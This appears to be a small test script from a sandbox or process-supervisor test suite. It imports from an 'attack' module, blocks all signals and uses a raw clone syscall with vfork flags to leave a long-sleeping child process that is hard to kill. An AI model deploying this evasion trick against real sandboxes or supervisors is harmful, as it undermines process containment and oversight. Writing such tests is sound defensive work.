import signal
import time

from attack import *

CLONE_VFORK = 0x4000
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
if syscall(56, 220, CLONE_VFORK | signal.SIGCHLD, 0, 0, 0, 0) == 0:
    time.sleep(3600)
